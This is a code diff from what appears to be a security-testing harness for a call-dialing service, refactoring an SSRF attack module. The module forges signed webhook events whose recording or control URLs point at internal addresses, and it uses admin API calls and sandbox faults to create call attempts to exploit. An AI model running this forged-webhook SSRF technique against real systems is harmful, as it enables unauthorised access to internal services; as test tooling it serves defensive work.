@@ -1,6 +1,6 @@
 import { sign } from "../forgery/corpus";
 import { endedReport } from "../forgery/genuine";
-import { sandboxCalls } from "../sandbox";
+import { asciiJson, askPermit, callsWithoutSession } from "../own-calls";
 import type { Target } from "../target";
 import type { Attack } from "../verdict";
 import { innerAddresses } from "./addresses";
@@ -57,7 +57,12 @@ async function roadsOf(target: Target, count: number): Promise<Road[]> {
   };
   const { body } = endedReport({ attemptId: call.attempt, sessionId: call.session });
   const report = JSON.parse(body) as { seq: number; snapshot: object };
-  const waiting = await attemptsWithoutSession(target, admin, count);
+  const waiting = await callsWithoutSession(
+    target,
+    admin,
+    count,
+    (n) => `+99890777${String(n).padStart(4, "0")}`,
+  );
 
   return [
     {
@@ -91,14 +96,7 @@ async function roadsOf(target: Target, count: number): Promise<Road[]> {
       async drive(address, n) {
         const seq = 100 + n;
         const recording = { url: address, seconds: 1 };
-        const text = JSON.stringify({
-          ...report,
-          seq,
-          snapshot: { ...report.snapshot, recording },
-        }).replace(
-          /[\u007f-\uffff]/g,
-          (sign) => `\\u${sign.charCodeAt(0).toString(16).padStart(4, "0")}`,
-        );
+        const text = asciiJson({ ...report, seq, snapshot: { ...report.snapshot, recording } });
         const signed = sign(`evt_${call.session}_${seq}`, text, target.webhookKey);
         const { status } = await target.ask({
           method: "POST",
@@ -122,61 +120,12 @@ async function roadsOf(target: Target, count: number): Promise<Road[]> {
       async drive(address, n) {
         const one = waiting[n];
         if (!one) throw new Error("too few attempts wait for a session");
-        const text = JSON.stringify({
-          v: 1,
-          attempt_id: one.id,
-          session_id: `77${n}`,
-          control_url: address,
-          occurred_at: new Date().toISOString(),
-        }).replace(
-          /[\u007f-\uffff]/g,
-          (sign) => `\\u${sign.charCodeAt(0).toString(16).padStart(4, "0")}`,
-        );
-        const signed = sign(`evt_77${n}_0`, text, target.webhookKey);
-        const asked = { method: "POST", path: "/voximplant/permit", ...signed };
-        const answer = await target.ask(asked);
+        const answer = await askPermit(target, one, address);
         await send("POST", `/api/v1/calls/${one.call}/hang-up`);
-        return answer.text.includes('"go":true');
+        return answer.includes('"go":true');
       },
     },
   ];
-}
-
-/** Calls whose start reached nobody, so that a session of ours may ask for their permit. */
-async function attemptsWithoutSession(
-  target: Target,
-  admin: Record<string, string>,
-  count: number,
-) {
-  await sandboxCalls(target).fault({
-    service: "voximplant",
-    kind: "drop",
-    match: { path: "StartScenarios" },
-  });
-  const ask = (method: string, path: string, body: unknown) =>
-    target.ask({ method, path, headers: admin, body: JSON.stringify(body) });
-  await ask("PATCH", "/api/v1/settings/dialing", {
-    maxConcurrentCalls: 200,
-    callsPerMinute: 600,
-    budgetPerDayMicros: 900_000_000,
-  });
-  const ids: string[] = [];
-  for (let n = 0; n < count; n += 1) {
-    const phone = `+99890777${String(n).padStart(4, "0")}`;
-    const { status, text } = await ask("POST", "/api/v1/calls", {
-      phone,
-      language: "ru",
-      confirm: true,
-    });
-    if (status >= 300) throw new Error(`${phone}: ${status} ${text}`);
-    ids.push((JSON.parse(text) as { id: string }).id);
-  }
-  for (;;) {
-    const rows = await target.sql<{ id: string; call: string }[]>`
-      select id, call_id as call from call_attempts where state = 'start_sent' and call_id = any(${ids})`;
-    if (rows.length >= count) return rows;
-    await new Promise((resolve) => setTimeout(resolve, 200));
-  }
 }
 
 export const ssrf: Attack = {
